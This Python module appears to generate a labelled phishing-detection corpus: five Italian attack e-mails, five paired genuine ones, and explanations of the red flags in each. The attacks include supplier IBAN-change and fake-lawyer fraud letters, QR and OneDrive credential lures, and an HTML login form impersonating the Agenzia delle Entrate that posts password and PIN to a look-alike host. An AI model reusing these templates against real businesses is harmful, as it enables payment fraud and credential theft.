"""Italian messages: 5 attacks, 5 genuine."""

from common import utc, iban_fmt
from kit import S, M, ACC, ID, plain, alt, outlook_alt, with_atts, pdf_att, alt_related, b64, sig
from mime import attachment, html_branded, html_simple, html_gmail, html_outlook
from attach import pdf
from media import qr_part, html_doc
from infra import aruba, italiaonline, brevo, exim_cpanel, m365, sendgrid, gmail, internal

ATTACKS = []
BUSINESS = []

FERRETTI_SIG = """Chiara Colombo
Ufficio Amministrazione

Ferretti Trasporti S.p.A.
Via dell'Industria 27, 37066 Sommacampagna (VR)
Tel. +39 045 896 1120 | P.IVA IT%s
""" % ID["ferretti_piva"]

# ---------------------------------------------------------------------------
# A17. Carrier bank-detail change from a look-alike domain
# ---------------------------------------------------------------------------
fer_txt = """Gentile Sig. Lucà,

con la presente Vi comunichiamo che, a seguito della riorganizzazione dei rapporti bancari della nostra società, a partire dalla data odierna tutti i pagamenti a favore di Ferretti Trasporti S.p.A. dovranno essere effettuati esclusivamente sulle seguenti nuove coordinate:

Beneficiario: Ferretti Trasporti S.p.A.
IBAN: %s
BIC: SELBIT2BXXX

Il conto precedentemente in uso presso Intesa Sanpaolo non sarà più operativo a partire dal 30/11/2026 e gli eventuali bonifici verranno respinti.

Vi preghiamo pertanto di aggiornare la Vostra anagrafica fornitori e di saldare su queste coordinate le fatture in scadenza (n. 2026/1244 e 2026/1261 relative alle tratte Bamberg-Verona di ottobre, totale € 18.710,27). In allegato la lettera su carta intestata firmata dal nostro amministratore delegato.

Vi chiediamo cortesemente di confermarci l'avvenuto aggiornamento rispondendo a questa e-mail.

Cordiali saluti

%s""" % (iban_fmt(ACC["ferretti_fraud"]), FERRETTI_SIG)
fer_pdf = pdf([[("FERRETTI TRASPORTI S.p.A.", 15, True), "Via dell'Industria 27, 37066 Sommacampagna (VR)",
                ("", 0, False), "Spett.le Example Group Italia S.r.l.", "Via Germania 14, 37135 Verona", ("", 0, False),
                ("Oggetto: variazione coordinate bancarie", 12, True), ("", 0, False),
                "Con la presente comunichiamo che a decorrere dal 16/11/2026 i pagamenti dovranno",
                "essere disposti esclusivamente sul seguente conto corrente:",
                "IBAN " + iban_fmt(ACC["ferretti_fraud"]) + "   BIC SELBIT2BXXX", ("", 0, False),
                "Distinti saluti", "L'Amministratore Delegato", "Roberto Ferretti"]],
              title="Variazione IBAN", author="Amministrazione", producer="Microsoft: Print To PDF", creator="",
              created="20261116100212+01'00'")
ATTACKS.append(M(
    id="A-it-ferretti", lang="it", slug="trasportatore-variazione-iban-lookalike",
    t=utc(2026, 11, 16, 10, 14, 37),
    frm=("Ferretti Trasporti - Amministrazione", "amministrazione@ferrettitrasporti.it"),
    to=[S["it_acc"].nm()], cc=[S["it_mgr"].nm()],
    subject="Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.",
    transport=aruba(client_ip="37.120.221.48", host="smtpdh20.aruba.it", ip="62.149.155.169"),
    mua="outlook", lang_tag="it-IT", hdr_cs="iso-8859-1",
    body=with_atts(outlook_alt(fer_txt, cs="iso-8859-1", cte="quoted-printable", lang="IT"),
                   [pdf_att(fer_pdf, "Lettera_variazione_IBAN_Ferretti.pdf")]),
    lookalikes=["ferrettitrasporti.it"],
    what="Bank-detail change 'from the carrier Ferretti Trasporti', asking to pay two October invoices (EUR 18,710.27) to a new IBAN and to confirm by reply.",
    why="Domain ferrettitrasporti.it lacks the hyphen of the real ferretti-trasporti.it (freshly registered at Aruba, webmail client on a Romanian VPS IP); old account declared 'closed'; letter is a print-to-PDF with a typed signature; confirmation only by e-mail – supplier-impersonation BEC."))

# ---------------------------------------------------------------------------
# A18. SdI rejection notice with an HTML login attachment
# ---------------------------------------------------------------------------
sdi_action = "https://ivaservizi-agenziaentrate.fatture-sdi-notifiche.com/portale/login.php"
sdi_html_att = html_doc("Fatture e Corrispettivi - Accesso", """
<div style="font-family:Titillium Web,Arial,sans-serif;max-width:560px;margin:30px auto;border:1px solid #ccd">
<div style="background:#06c;color:#fff;padding:14px 18px;font-size:18px">Agenzia delle Entrate &ndash; Fatture e Corrispettivi</div>
<div style="padding:20px 24px;color:#222">
<p><b>Notifica di scarto n. 7704418812</b><br>Fattura n. 2026/FE/00412 del 13/11/2026 &ndash; Cedente: EXAMPLE GROUP ITALIA S.R.L. (P.IVA 04123450233)</p>
<p>Codice errore <b>00404</b> &ndash; Fattura duplicata. Per visualizzare il file scartato e ritrasmettere la fattura accedere con le credenziali dell'area riservata.</p>
<form method="post" action=\"""" + sdi_action + """\">
<input type="hidden" name="n" value="7704418812">
<p>Codice fiscale / Nome utente<br><input name="u" style="width:100%;padding:6px" value=""></p>
<p>Password<br><input name="p" type="password" style="width:100%;padding:6px"></p>
<p>PIN<br><input name="pin" type="password" style="width:100%;padding:6px"></p>
<p><button type="submit" style="background:#06c;color:#fff;border:0;padding:10px 22px">Accedi</button></p>
</form>
<p style="font-size:11px;color:#666">Servizio erogato da Sogei S.p.A. per conto dell'Agenzia delle Entrate</p>
</div></div>""")
sdi_txt = """Agenzia delle Entrate - Sistema di Interscambio

Notifica di scarto

Gentile contribuente,
la fattura elettronica n. 2026/FE/00412 del 13/11/2026 trasmessa al Sistema di Interscambio per il cedente EXAMPLE GROUP ITALIA S.R.L. (P.IVA %s) è stata SCARTATA.

Codice errore: 00404 - Fattura duplicata
Identificativo SdI: 7704418812

La fattura scartata si considera non emessa. È necessario visualizzare il dettaglio dello scarto e ritrasmettere il file entro 5 giorni dalla data della presente notifica, per evitare l'applicazione delle sanzioni previste dall'art. 6 del D.Lgs. 471/1997.

Il dettaglio della notifica e il modulo di accesso all'area riservata sono disponibili nel file allegato.

Agenzia delle Entrate
Servizio Fatture e Corrispettivi

Messaggio generato automaticamente, si prega di non rispondere.
""" % ID["eg_it_piva"]
ATTACKS.append(M(
    id="A-it-sdi", lang="it", slug="sdi-notifica-scarto-allegato-html",
    t=utc(2026, 11, 17, 8, 36, 50),
    frm=("Agenzia delle Entrate - SdI", "notifiche-sdi@studiotecnico-ravelli.it"),
    to=[S["it_acc"].nm()],
    subject="Notifica di scarto fattura 2026/FE/00412 - Identificativo SdI 7704418812",
    transport=exim_cpanel("host21.hostingsolutions.it", "89.46.108.21", "5.42.199.7", zone="+0100"),
    mua="phpmailer", hdr_cs="utf-8",
    body=with_atts(plain(sdi_txt, cs="utf-8", cte="8bit"),
                   [attachment(sdi_html_att.encode("utf-8"), "text/html", "Notifica_scarto_7704418812.html", extra_ct="; charset=utf-8")]),
    lookalikes=["fatture-sdi-notifiche.com"],
    what="Fake Agenzia delle Entrate / SdI rejection notice for an e-invoice ('duplicate invoice', code 00404) with an HTML attachment containing a login form.",
    why="SdI notifications arrive via PEC/the portal, not from a surveyor's compromised website (cPanel + PHPMailer); the HTML attachment is a credential form posting to ivaservizi-agenziaentrate.fatture-sdi-notifiche.com; sanction threat and 5-day deadline."))

# ---------------------------------------------------------------------------
# A19. Fake lawyer on behalf of the CEO (look-alike law-firm tenant)
# ---------------------------------------------------------------------------
law_txt = """Gentile Dott.ssa Ferraro,

mi permetto di contattarLa su indicazione del Dott. Klaus Wegener, che ci ha incaricati di assistere il Gruppo nell'operazione di acquisizione di un distributore di bevande HoReCa in Lombardia. Il Dott. Wegener mi ha riferito di averLa già informata brevemente e che sarà Lei il nostro referente operativo per la parte italiana.

L'operazione è coperta da un accordo di riservatezza molto stringente (NDA) fino alla comunicazione all'Autorità Garante della Concorrenza: La prego quindi di non discuterne con altri colleghi, né in Italia né in Germania, fino a nuova comunicazione del Dott. Wegener.

Per il perfezionamento della lettera d'intenti è richiesto oggi il versamento di un deposito cauzionale di € 94.500,00 su un conto vincolato del nostro studio corrispondente a Barcellona, che agisce come escrow agent per la parte venditrice:

Beneficiario: Despacho Vidal & Asociados S.L.P. - cuenta cliente
IBAN: %s
BIC: BSABESBBXXX
Causale: Deposito cauzionale LOI - Rif. DSP/2026/118

Il Dott. Wegener è in volo per Madrid e non raggiungibile telefonicamente fino a stasera; Le chiede di procedere con la massima discrezione e di inviarmi la contabile non appena disponibile, così da poterla girare al notaio.

Resto a disposizione per qualsiasi chiarimento esclusivamente via e-mail.

Cordiali saluti

Avv. Marco De Santis
De Santis & Partners - Studio Legale
Corporate M&A
Via Monte Napoleone 8, 20121 Milano
""" % iban_fmt(ACC["lawyer_fraud_es"])
ATTACKS.append(M(
    id="A-it-lawyer", lang="it", slug="falso-avvocato-acquisizione-riservata",
    t=utc(2026, 12, 1, 11, 8, 14),
    frm=("Avv. Marco De Santis", "m.desantis@desantis-partners-legal.com"),
    to=[S["it_mgr"].nm()],
    subject="Riservato - Operazione Lombardia / deposito cauzionale LOI",
    transport=m365("desantis-partners-legal.com", region="eurprd06", eop_host="mail-vi1eur04on2092", ip="40.107.8.92"),
    mua="m365", lang_tag="it-IT", hdr_cs="utf-8",
    body=alt(law_txt, html_outlook(law_txt, lang="IT"), cs="utf-8", cte="base64"),
    lookalikes=["desantis-partners-legal.com"],
    what="Fake lawyer writes 'on behalf of the CEO' to the Italian office manager, demanding a confidential EUR 94,500 escrow deposit to a Spanish account for an acquisition.",
    why="Lawyer/CEO-fraud combination: freshly set-up Microsoft 365 tenant on a generic law-firm domain, secrecy toward colleagues, CEO 'on a plane and unreachable', e-mail-only contact, foreign escrow account unrelated to a Milan law firm."))

# ---------------------------------------------------------------------------
# A20. Customs/excise (ADM) quishing with a QR PNG attachment (Brevo)
# ---------------------------------------------------------------------------
adm_url = "https://pudm-adm.gov-it.servizi-accise.com/verifica?dep=VRZ00412B&m=" + b64(S["it_mgr"].addr)
adm_txt = """Agenzia delle Dogane e dei Monopoli
Ufficio delle Dogane di Verona - Sezione Accise

Oggetto: Deposito fiscale birra - codice ditta IT00VRB00412B - verifica dichiarazione annuale di consumo

Gentile operatore,

dai controlli automatizzati sulla contabilità del Vostro deposito fiscale per la birra risultano scostamenti tra i quantitativi estratti nel III trimestre 2026 e i versamenti dell'accisa effettuati tramite modello F24 (differenza stimata: 186,4 hl).

Per evitare l'avvio della procedura di recupero dell'imposta con applicazione delle sanzioni di cui al D.Lgs. 504/1995, è necessario confermare i dati del deposito entro il 04/12/2026 tramite il Portale Unico Dogane e Monopoli (PUDM).

Per ragioni di sicurezza l'accesso è consentito esclusivamente da dispositivo mobile con SPID o CIE: inquadri il codice QR allegato (QR_PUDM_verifica.png) con la fotocamera dello smartphone.

Distinti saluti

Il Direttore dell'Ufficio
Agenzia delle Dogane e dei Monopoli
"""
adm_html = html_branded("Deposito fiscale birra - verifica dichiarazione",
                        ["Ufficio delle Dogane di Verona - Sezione Accise", "Codice ditta IT00VRB00412B",
                         "Gentile operatore, dai controlli automatizzati sulla contabilità del Vostro deposito fiscale per la birra risultano scostamenti tra i quantitativi estratti nel III trimestre 2026 e i versamenti dell'accisa effettuati tramite modello F24 (differenza stimata: 186,4 hl).",
                         "Per evitare l'avvio della procedura di recupero dell'imposta con applicazione delle sanzioni di cui al D.Lgs. 504/1995, è necessario confermare i dati del deposito entro il 04/12/2026 tramite il Portale Unico Dogane e Monopoli (PUDM).",
                         "Per ragioni di sicurezza l'accesso è consentito esclusivamente da dispositivo mobile con SPID o CIE: inquadri il codice QR allegato con la fotocamera dello smartphone."],
                        footer="Il Direttore dell'Ufficio – Agenzia delle Dogane e dei Monopoli",
                        brand="#004b87", logo_text="ADM – Agenzia delle Dogane e dei Monopoli", lang="it")
ATTACKS.append(M(
    id="A-it-adm", lang="it", slug="accise-birra-adm-qr-code",
    t=utc(2026, 11, 27, 9, 51, 3),
    frm=("ADM - Ufficio delle Dogane di Verona", "comunicazioni@adm-notifiche-accise.it"),
    to=[S["it_mgr"].nm()], cc=[S["it_acc"].nm()],
    subject="Deposito fiscale birra IT00VRB00412B - verifica obbligatoria entro il 04/12/2026",
    transport=brevo(), mua="none", hdr_cs="iso-8859-15",
    body=with_atts(alt(adm_txt, adm_html, cs="iso-8859-15", cte="quoted-printable"),
                   [qr_part(adm_url, "QR_PUDM_verifica.png")]),
    qr_url=adm_url, lookalikes=["adm-notifiche-accise.it", "gov-it.servizi-accise.com"],
    what="Quishing posing as the Italian customs/excise agency (ADM): discrepancies in the beer excise warehouse, confirm via PUDM by scanning an attached QR code.",
    why="Sent via the Brevo ESP from adm-notifiche-accise.it (ADM uses adm.gov.it and PEC); the QR (real PNG) decodes to pudm-adm.gov-it.servizi-accise.com carrying the recipient's address; 'mobile only' pushes the victim off the protected PC; sanction threat."))

# ---------------------------------------------------------------------------
# A21. Thread hijack from the compromised Libero mailbox of a bar customer
# ---------------------------------------------------------------------------
hj_url = "https://condivisione-documenti-onedrive.web.app/d/aurora-ordine-natale?id=" + b64(S["it_mgr"].addr)
hj_txt = """Buongiorno Giulia,

grazie per la conferma. Come d'accordo Le ho preparato la distinta del bonifico per le fatture di ottobre e l'ordine definitivo per Natale (con le due casse in più di Pils e i fusti della speciale).

Siccome il file è pesante l'ho caricato su OneDrive, lo trova qui:

[[Visualizza documento - Ordine_Natale_Aurora.pdf|%s]]

Mi faccia sapere se riesce ad aprirlo, altrimenti glielo rimando.

Grazie mille e buona giornata
Marco

Bar Pasticceria Aurora
Corso Porta Nuova 41, Verona

Il 24/11/2026 10:02, Giulia Ferraro ha scritto:
> Buongiorno Marco,
> confermo la consegna per venerdì 18/12 entro le 9. Per l'ordine definitivo mi mandi pure la lista entro fine mese.
> Cordiali saluti
> Giulia Ferraro
> Example Group Italia S.r.l.
""" % hj_url
ATTACKS.append(M(
    id="A-it-hijack", lang="it", slug="cliente-bar-libero-compromesso-link",
    t=utc(2026, 11, 26, 14, 19, 45),
    frm=("Bar Pasticceria Aurora", "bar.aurora.vr@libero.it"),
    to=[S["it_mgr"].nm()],
    subject="Re: Ordine Natale - Bar Aurora",
    in_reply_to="<2f7d0c93b18e4a6f9e215c7a0d4b83e6@EXCH01.corp.example.com>",
    references="<1511403928.171.1795539600000@libero.it> <2f7d0c93b18e4a6f9e215c7a0d4b83e6@EXCH01.corp.example.com>",
    transport=italiaonline(client_ip="196.251.72.114"), mua="none",
    body=alt(hj_txt, html_gmail(hj_txt), cs="utf-8", cte="quoted-printable"),
    lookalikes=["condivisione-documenti-onedrive.web.app"],
    what="Reply in a real order thread from the bar customer's Libero mailbox: 'payment slip and Christmas order' behind a 'OneDrive' link.",
    why="The customer's Libero account is compromised (real mailbox, real thread, but login from an African VPS range); the 'OneDrive' link is a Firebase web.app page (abused free hosting) that harvests Microsoft credentials; a bar never shares orders as cloud documents."))

# ===========================================================================
# genuine
# ===========================================================================
ferg_txt = """Buongiorno Sig. Lucà,

in allegato Le inviamo copia di cortesia della fattura elettronica n. 2026/1244 del 31/10/2026 relativa alle tratte Bamberg-Verona del mese di ottobre (11 viaggi frigo, € 8.216,45 + IVA). L'originale è stato trasmesso tramite SdI al Vostro codice destinatario.

Le ricordiamo inoltre che risulta ancora aperta la fattura n. 2026/1108 del 30/09/2026 (€ 1.620,00), scaduta il 30/10. Le saremmo grati se potesse provvedere al saldo entro la fine della settimana.

Coordinate invariate:
Intesa Sanpaolo - IBAN %s

Per qualsiasi chiarimento resto a disposizione al numero 045 896 1120.

Cordiali saluti

%s""" % (iban_fmt(ACC["ferretti"]), FERRETTI_SIG)
ferg_pdf = pdf([[("FERRETTI TRASPORTI S.p.A.", 15, True), "Via dell'Industria 27, 37066 Sommacampagna (VR) - P.IVA IT" + ID["ferretti_piva"],
                 ("", 0, False), ("Copia di cortesia - Fattura n. 2026/1244 del 31/10/2026", 12, True),
                 "Cliente: Example Group Italia S.r.l. - P.IVA IT" + ID["eg_it_piva"], ("", 0, False),
                 "Servizio trasporto refrigerato Bamberg (DE) - Verona (IT), ottobre 2026",
                 "11 viaggi x 746,95 EUR                                              8.216,45",
                 "IVA 22%                                                             1.807,62",
                 ("Totale documento                                                   10.024,07 EUR", 10, True),
                 ("", 0, False), "Pagamento: bonifico 30 gg d.f.  Intesa Sanpaolo  IBAN " + iban_fmt(ACC["ferretti"]),
                 "Documento privo di valenza fiscale ai sensi dell'art. 21 DPR 633/72. L'originale e' disponibile",
                 "nella Vostra area riservata del servizio Fatture e Corrispettivi."]],
               title="Fattura 2026/1244", author="Ferretti Trasporti", producer="TeamSystem", creator="TeamSystem Enterprise",
               created="20261102090411+01'00'")
BUSINESS.append(M(
    id="B-it-ferretti", lang="it", slug="trasportatore-fattura-cortesia-sollecito",
    t=utc(2026, 11, 3, 9, 12, 5),
    frm=("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it"),
    sender=("Chiara Colombo", "c.colombo@ferretti-trasporti.it"),
    to=[S["it_acc"].nm()],
    subject="Fattura 2026/1244 - copia di cortesia e sollecito fattura 2026/1108",
    transport=aruba(client_ip="93.41.152.27"), mua="outlook", lang_tag="it-IT", hdr_cs="windows-1252",
    body=with_atts(outlook_alt(ferg_txt, cs="windows-1252", cte="quoted-printable", lang="IT"),
                   [pdf_att(ferg_pdf, "Fattura_2026-1244_cortesia.pdf")]),
    has_attach=True, pairs=["A-it-ferretti"],
    pair_note="Same carrier and the same kind of October invoices. Genuine: real domain ferretti-trasporti.it via Aruba from the carrier's fixed office IP, courtesy copy of an SdI invoice, states the IBAN is unchanged (Intesa Sanpaolo); attack: hyphen-less look-alike domain, 'new' IBAN and e-mail confirmation.",
    what="Carrier Ferretti sends the courtesy copy of its October e-invoice and a reminder for an overdue September invoice, IBAN unchanged.",
    why="Exact carrier domain, sent through Aruba from the office line, invoice transmitted via SdI as required, known IBAN, phone number offered; a routine reminder."))

# B18. Tax adviser on deadlines and an SdI rejection (8bit iso-8859-15)
ber_txt = """Buongiorno Davide,

Vi ricordo le prossime scadenze di dicembre per Example Group Italia:

- 16/12: F24 con IVA di novembre, ritenute e contributi dei dipendenti (Vi mando le deleghe entro il 10);
- 16/12: versamento accisa birra di novembre (deposito IT00VRB00412B) - il prospetto lo prepara Giulia come sempre;
- 27/12: acconto IVA 2026, metodo storico (€ 14.380,00).

Vi segnalo inoltre che lo SdI ha scartato la Vostra fattura n. 2026/FE/00398 a Birrificio Adige (codice 00404, fattura duplicata): era partita due volte dal gestionale. La prima trasmissione è regolarmente consegnata, quindi non dovete fare nulla. La ricevuta di scarto la trovate come sempre nel cassetto fiscale, a cui accediamo noi come intermediari.

Buona giornata
Elisa Bertolini

--
Rag. Elisa Bertolini
Studio Bertolini Commercialisti Associati
Via Cesare Battisti 12, 37122 Verona - Tel. 045 594 220
"""
BUSINESS.append(M(
    id="B-it-commercialista", lang="it", slug="commercialista-scadenze-scarto-sdi",
    t=utc(2026, 11, 30, 16, 40, 22),
    frm=("Elisa Bertolini", "elisa.bertolini@studiobertolini.it"),
    to=[S["it_acc"].nm()], cc=[S["it_mgr"].nm()],
    subject="Scadenze dicembre e scarto SdI fattura 00398",
    transport=aruba(client_ip="151.29.140.66", host="smtpdh12.aruba.it", ip="62.149.155.152"), mua="thunderbird",
    lang_tag="it-IT", hdr_cs="iso-8859-15",
    body=plain(ber_txt, cs="iso-8859-15", cte="8bit"),
    pairs=["A-it-sdi"],
    pair_note="Both mention an SdI rejection with code 00404 (duplicate invoice). Genuine: the company's own tax adviser explains that nothing needs to be done and that receipts are in the tax drawer, no link or attachment; attack: fake Agenzia delle Entrate notice from a compromised site with an HTML login form.",
    what="External tax adviser lists December tax/excise deadlines and explains a harmless SdI rejection (duplicate).",
    why="Known adviser address via Aruba, Thunderbird plain text, no links or attachments, no credential or payment request beyond the normal tax schedule."))

# B19. Genuine bar order from Libero
bar_txt = """Buongiorno Giulia,

come d'accordo Le mando l'ordine per Natale:

- 6 fusti Pils da 20 litri
- 2 fusti della speciale di Natale (Bock) da 20 litri
- 10 casse di Pils 0,33
- 4 casse di acqua frizzante 0,75 vetro

Consegna venerdì 18/12 entro le 9, entrata sul retro come sempre. Per le fatture di ottobre ho fatto il bonifico ieri dalla Banca BPM, Le mando la contabile appena la banca me la dà.

Grazie e buona giornata
Marco Bianchi
Bar Pasticceria Aurora
Corso Porta Nuova 41, Verona
Tel. 045 803 1174
"""
BUSINESS.append(M(
    id="B-it-bar", lang="it", slug="bar-cliente-ordine-natale-libero",
    t=utc(2026, 11, 28, 8, 47, 18),
    frm=("Bar Pasticceria Aurora", "bar.aurora.vr@libero.it"),
    to=[S["it_mgr"].nm()],
    subject="Ordine Natale Bar Aurora",
    transport=italiaonline(client_ip="151.38.77.201"), mua="none",
    body=plain(bar_txt, cs="utf-8", cte="8bit"),
    pairs=["A-it-hijack"],
    pair_note="Same customer mailbox and topic (Christmas order). Genuine: order written in the body, sent from the bar's usual Italian residential IP, no link; attack: reply in the thread from a foreign IP with a 'OneDrive' link on web.app.",
    what="Bar customer sends its Christmas order (kegs and cases) directly in the mail body from Libero.",
    why="Known customer address, Italian residential IP via Libero's servers, order in plain text, no links or attachments, payment made to the company (not requested from it)."))

# B20. Subscribed trade newsletter via SendGrid with List-Unsubscribe
nl_txt = """Birra & Distribuzione - Newsletter n. 44/2026

In questo numero:

- Accise sulla birra 2027: confermata la riduzione per i piccoli birrifici indipendenti. [[Leggi l'articolo|https://www.birraedistribuzione.it/normativa/accise-birra-2027]]
- HoReCa: i consumi fuori casa tornano ai livelli del 2019 nel Nord-Est. [[Leggi|https://www.birraedistribuzione.it/mercato/horeca-nordest]]
- Logistica del freddo: come ridurre le rotture nel vuoto a rendere. [[Leggi|https://www.birraedistribuzione.it/logistica/vuoto-a-rendere]]

Appuntamento: Beer&Food Attraction, Rimini, 15-17 febbraio 2027.

Ricevi questa e-mail perché sei iscritto alla newsletter di Birra & Distribuzione con l'indirizzo giulia.ferraro@example.com.
[[Annulla l'iscrizione|https://www.birraedistribuzione.it/newsletter/unsubscribe?u=3f9a21c7]] - Edizioni Bevande Srl, Via Larga 9, 20122 Milano
"""
nl_html = html_branded("Birra & Distribuzione - Newsletter 44/2026",
                       ["Accise sulla birra 2027: confermata la riduzione per i piccoli birrifici indipendenti. [[Leggi l'articolo|https://www.birraedistribuzione.it/normativa/accise-birra-2027]]",
                        "HoReCa: i consumi fuori casa tornano ai livelli del 2019 nel Nord-Est. [[Leggi|https://www.birraedistribuzione.it/mercato/horeca-nordest]]",
                        "Logistica del freddo: come ridurre le rotture nel vuoto a rendere. [[Leggi|https://www.birraedistribuzione.it/logistica/vuoto-a-rendere]]",
                        "Appuntamento: Beer&Food Attraction, Rimini, 15-17 febbraio 2027."],
                       footer="Ricevi questa e-mail perché sei iscritto alla newsletter con l'indirizzo giulia.ferraro@example.com.\n[[Annulla l'iscrizione|https://www.birraedistribuzione.it/newsletter/unsubscribe?u=3f9a21c7]] - Edizioni Bevande Srl, Via Larga 9, 20122 Milano",
                       brand="#c8102e", logo_text="Birra & Distribuzione", lang="it")
BUSINESS.append(M(
    id="B-it-newsletter", lang="it", slug="newsletter-birra-distribuzione-sendgrid",
    t=utc(2026, 11, 12, 7, 0, 0),
    frm=("Birra & Distribuzione", "news@birraedistribuzione.it"),
    to=[S["it_mgr"].nm()],
    subject="Accise 2027, HoReCa Nord-Est e vuoto a rendere - Newsletter 44/2026",
    transport=sendgrid(host="o1678", ip="168.245.16.78", bounce_dom="em7712.birraedistribuzione.it", uid=31188420), mua="none",
    extra=[("List-Unsubscribe", "<https://www.birraedistribuzione.it/newsletter/unsubscribe?u=3f9a21c7>, <mailto:unsubscribe@birraedistribuzione.it?subject=unsubscribe-3f9a21c7>"),
           ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
           ("List-Id", "Newsletter Birra e Distribuzione <newsletter.birraedistribuzione.it>")],
    body=alt(nl_txt, nl_html, cs="utf-8", cte="quoted-printable"),
    what="Italian beverage-trade newsletter (excise 2027, HoReCa, returnable glass) sent via SendGrid to a subscriber.",
    why="Subscribed newsletter via SendGrid with List-Unsubscribe (one-click) and List-Id; links only to the publisher's site."))

# B21. Colleague writes from private Gmail about a broken laptop
lap_txt = """Ciao Giulia, ciao Thomas,

vi scrivo dalla mia mail privata perché stamattina il portatile aziendale (quello con l'etichetta EG-IT-0117) non si accende più: dopo l'aggiornamento di ieri sera resta lo schermo nero con la ventola al massimo. Ho provato a staccare la batteria e a tenere premuto il tasto di accensione, niente.

Oggi lavoro da casa e riesco a fare quasi tutto dal telefono (Outlook e Teams funzionano). Il gestionale però mi serve per chiudere le registrazioni di novembre entro giovedì.

Thomas, posso portarlo in ufficio domani mattina a Giulia e farvelo spedire a Bamberg, oppure avete un muletto da mandarmi? Non ho salvato nulla in locale, è tutto su OneDrive.

Grazie e scusate il disturbo
Davide
"""
BUSINESS.append(M(
    id="B-it-laptop", lang="it", slug="collega-portatile-guasto-gmail-privata",
    t=utc(2026, 12, 1, 8, 2, 11),
    frm=("Davide Lucà", "davide.luca.vr@gmail.com"),
    to=[S["it_mgr"].nm(), S["ithead"].nm()],
    subject="Portatile aziendale non si accende",
    transport=gmail(host="mail-wr1-f49", ip="209.85.221.49"), mua="gmail",
    body=alt(lap_txt, html_gmail(lap_txt), cs="UTF-8", cte="quoted-printable"),
    what="Italian accountant writes from his private Gmail that his company laptop is dead and asks IT for a replacement.",
    why="Plausible private-mail use when the company device fails; asks only for hardware support, no credentials, payment or data changes; consistent details (asset tag, OneDrive)."))
